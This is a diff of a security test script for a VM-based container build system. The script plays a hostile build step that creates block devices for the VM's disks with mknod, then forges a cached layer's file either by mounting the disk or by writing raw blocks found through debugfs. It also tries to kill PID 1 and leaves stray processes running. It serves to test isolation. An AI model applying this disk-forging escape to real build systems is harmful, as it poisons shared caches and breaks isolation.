@@ -1,7 +1,7 @@
 // Issue 13, from inside the guest: a RUN step is root in the VM (CAP_SYS_ADMIN, CAP_MKNOD in its
-// namespaces), so the chroot is no boundary. One build, one boot, no network: an innocent first step,
-// then a hostile one that makes block devices of the VM's disks, mounts the scratch disk and rewrites
-// the first step's file in place (the bytes the host reads for the first step's layer), signals the
+// namespaces; a RUN step keeps Docker's default capabilities: CAP_MKNOD, not CAP_SYS_ADMIN), so the chroot is no boundary. One build, one boot, no network: an innocent first step,
+// then a hostile one that makes block devices of the VM's disks, mounts the scratch disk (or, without
+// the capability to mount, finds the file's block with debugfs) and rewrites the first step's file in place (the bytes the host reads for the first step's layer), signals the
 // agent, and leaves processes behind; a last step watches for them. What the host must keep: the first
 // step's layer as that step made it (its cache entry is keyed by that step alone), the hostile step's
 // changes in its own layer only, no guest process after the step, and no QEMU, passt or temp dir after
@@ -19,19 +19,32 @@ echo "network devices: $(ls /sys/class/net | tr '\\n' ' ')"
 echo "processes seen: $(ls /proc | grep -c '^[0-9]')"
 kill -KILL 1 2>/dev/null && echo "kill 1: sent" || echo "kill 1: refused"
 mkdir -p /escape
-for d in /sys/block/vd*; do
-  name=\${d##*/}; serial=$(cat $d/serial); dev=$(cat $d/dev)
-  if mknod /escape/$name b \${dev%:*} \${dev#*:}; then echo "mknod $serial: made"; else echo "mknod $serial: refused"; continue; fi
-  mkdir -p /escape/m-$name
-  if mount -t ext4 /escape/$name /escape/m-$name 2>/dev/null; then
-    echo "mount $serial: mounted"
-    for f in /escape/m-$name/layers/*/first.txt; do
-      [ -f "$f" ] || continue
-      # same length, in place: the blocks the first step's manifest points at
-      printf 'FORGED!!\\n' | dd of="$f" conv=notrunc status=none && sync && echo "rewrote $serial:\${f#/escape/m-$name/}"
+# rewrite the first step's file in place: the blocks its manifest points at, same length
+forge() { # DEVICE LABEL
+  local f blocksize block
+  if mount -t ext4 "$1" /escape/m 2>/dev/null; then
+    echo "mount $2: mounted"
+    for f in /escape/m/layers/*/first.txt; do
+      [ -f "$f" ] && printf 'FORGED!!\\n' | dd of="$f" conv=notrunc status=none && sync && echo "rewrote $2:\${f#/escape/m/}"
     done
-    umount /escape/m-$name
+    umount /escape/m
+    return
   fi
+  # no CAP_SYS_ADMIN for a mount: the raw device is enough (debugfs reads where the file's block is)
+  echo "mount $2: refused"
+  blocksize=$(debugfs -R stats "$1" 2>/dev/null | sed -n 's/^Block size: *//p')
+  for f in $(debugfs -R 'ls -p /layers' "$1" 2>/dev/null | cut -d/ -f6 | grep -E '^[0-9]+$'); do
+    block=$(debugfs -R "blocks /layers/$f/first.txt" "$1" 2>/dev/null | tr -d ' ')
+    [ -n "$block" ] && [ -n "$blocksize" ] || continue
+    printf 'FORGED!!\\n' | dd of="$1" bs="$blocksize" seek="$block" conv=notrunc,fsync status=none && echo "rewrote $2:layers/$f/first.txt"
+  done
+}
+mkdir -p /escape/m
+for d in /sys/block/vd* /sys/block/sd*; do
+  [ -e "$d/dev" ] || continue
+  name=\${d##*/}; serial=$(cat $d/serial 2>/dev/null || cat $d/device/model 2>/dev/null); serial=\${serial%% *}; dev=$(cat $d/dev)
+  if mknod /escape/$name b \${dev%:*} \${dev#*:}; then echo "mknod $serial: made"; else echo "mknod $serial: refused"; continue; fi
+  [ "$serial" = scratch ] && forge /escape/$name "$serial"
 done
 # processes meant to outlive the step: a daemon, and a writer that keeps changing the next step's files
 setsid bash -c 'while :; do date +%s%N >> /still-running.txt; sleep 0.5; done' </dev/null >/dev/null 2>&1 &
